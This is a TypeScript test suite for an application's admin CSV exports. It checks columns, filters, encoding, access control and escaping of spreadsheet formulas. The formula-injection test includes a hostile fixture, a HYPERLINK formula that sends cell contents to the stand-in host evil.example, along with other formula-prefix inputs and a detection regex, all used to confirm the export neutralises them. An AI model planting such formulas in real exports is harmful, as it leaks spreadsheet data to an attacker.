import assert from 'node:assert/strict';
import {issueDocuments} from '../../src/jobs/issue-documents.job';
import type {TestApp} from '../helpers/app';
import {assertRefused} from '../helpers/booking';
import {parseCsv, type Sheet} from '../helpers/csv';
import {givenSeededApplication} from '../helpers/seeded';
import {parameters, type Query, StaffList, staffListPaths} from '../helpers/staff-list';

/** Formulas begin so; a spreadsheet would run one that a customer typed as a name. */
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('Staff take a list away as CSV', () => {
  let app: TestApp;
  let token: string;

  before(async () => {
    app = await givenSeededApplication();
    await issueDocuments.run(app.application);
    token = await app.givenAdminToken();
  });
  after(() => app?.stop());

  /** The bytes as they came. */
  const download = async (path: string, query: Query = {}) => {
    const response = await fetch(`${app.url}${path}.csv?${parameters(query)}`, {
      headers: {Authorization: `Bearer ${token}`},
    });
    return {
      status: response.status,
      headers: response.headers,
      bytes: Buffer.from(await response.arrayBuffer()),
    };
  };
  const sheet = async (path: string, query: Query = {}): Promise<Sheet> => {
    const {status, bytes} = await download(path, query);
    assert.equal(status, 200, bytes.toString());
    return parseCsv(bytes.subarray(3).toString());
  };
  /** A value of JSON as its cell has it. */
  const cell = (value: unknown): string => {
    if (value === null) return '';
    const text =
      typeof value === 'string' ? value : typeof value === 'object' ? JSON.stringify(value) : String(value);
    return typeof value === 'string' && FORMULA.test(text) ? `'${text}` : text;
  };
  const wholeList = async (path: string, query: Query = {}) => {
    const list = new StaffList(app, token, path);
    let page = await list.page({...query, limit: 100});
    const items = [...page.items];
    while (page.nextCursor !== null) {
      page = await list.page({...query, limit: 100, after: page.nextCursor});
      items.push(...page.items);
    }
    return items.map(item =>
      Object.fromEntries(Object.entries(item).map(([name, value]) => [name, cell(value)])),
    );
  };

  it('of each list: the same columns and rows as its pages, in the same order', async () => {
    for (const path of await staffListPaths(app)) {
      const {header, rows} = await sheet(path);

      const expected = await wholeList(path);
      assert.ok(expected.length > 0, `${path} is empty`);
      assert.deepEqual(header, Object.keys(expected[0] ?? {}), path);
      assert.deepEqual(rows, expected, path);
    }
  });

  it('with the same search, filters and order', async () => {
    const queries: [path: string, query: Query][] = [
      ['/api/admin/bookings', {status: 'confirmed', sort: 'lastName'}],
      ['/api/admin/bookings', {search: 'clarke', sort: '-startDatetime'}],
      ['/api/admin/users', {search: 'obrien'}],
      ['/api/admin/schedules', {search: 'leeds', unassigned: false, sort: '-startDatetime'}],
      ['/api/admin/payments', {kind: 'refund'}],
      ['/api/admin/discount-codes', {isActive: true, sort: '-timesUsed'}],
    ];
    for (const [path, query] of queries) {
      const {rows} = await sheet(path, query);

      const expected = await wholeList(path, query);
      assert.ok(expected.length > 0, `${path} ${JSON.stringify(query)} is empty`);
      assert.deepEqual(rows, expected, JSON.stringify(query));
    }
  });

  it('named after the list, in UTF-8 that spreadsheets recognise, one record a line', async () => {
    const {headers, bytes} = await download('/api/admin/discount-codes');

    assert.equal(headers.get('Content-Type'), 'text/csv; charset=utf-8');
    assert.equal(headers.get('Content-Disposition'), 'attachment; filename="discount-codes.csv"');
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString();
    assert.ok(text.endsWith('\r\n'));
    assert.doesNotMatch(text.replaceAll('\r\n', ''), /[\r\n]/);
  });

  it('with its header even when no row matches', async () => {
    const {bytes} = await download('/api/admin/venues', {search: 'nowhere at all'});

    const {header, rows} = parseCsv(bytes.subarray(3).toString());
    assert.deepEqual(
      [[...bytes.subarray(0, 3)], header.slice(0, 2), rows],
      [[0xef, 0xbb, 0xbf], ['id', 'name'], []],
    );
  });

  it('with names as people write them, whatever CSV makes of their characters', async () => {
    const names = [
      "Zoë O'Brien",
      'Łukasz "Luke" Nowak',
      'Smith, Jones & Sons',
      'two\nlines',
      'two\r\nlines',
      '王小明',
      '🙂',
      ' spaces ',
      '"',
      ',',
      "'quoted'",
      'a\tb',
      'semi;colon',
      '<b>&amp;</b>',
      '%00',
    ];
    for (const name of names)
      await app.rows(`insert into users (email, first_name, last_name) values ($1, $2, 'Verbatim')`, [
        `${Math.random()}@v.example`,
        name,
      ]);

    const {rows} = await sheet('/api/admin/users', {search: 'verbatim', sort: 'id'});

    assert.deepEqual(
      rows.map(row => row.firstName),
      names,
    );
  });

  it('in which nothing that somebody typed becomes a formula', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example?"&A1,"x")',
      '+44 113 496 0000',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(1)',
      '=1+1\n',
      '"=1+1',
      '-',
    ];
    for (const formula of formulas)
      await app.rows(`insert into users (email, first_name, last_name) values ($1, 'Formula', $2)`, [
        `${Math.random()}@f.example`,
        formula,
      ]);

    const {rows} = await sheet('/api/admin/users', {search: 'formula', sort: 'id'});

    assert.deepEqual(
      rows.map(row => row.lastName),
      formulas.map(cell),
    );
    for (const row of rows) for (const value of Object.values(row)) assert.doesNotMatch(value, FORMULA);
  });

  it('of every list for admins only, with a known order and filters', async () => {
    const {token: instructor} = await app.givenSignIn('instructor');
    for (const path of await staffListPaths(app)) {
      assertRefused(await app.get(`${path}.csv`), 401, 'NOT_AUTHENTICATED');
      assertRefused(await app.get(`${path}.csv`, {token: instructor}), 403, 'NOT_ALLOWED');
      assertRefused(await app.get(`${path}.csv?sort=nothing`, {token}), 400, 'INVALID_PARAMETER');
      assertRefused(await app.get(`${path}.csv?limit=10`, {token}), 400, 'UNKNOWN_PARAMETER');
    }
  });
});
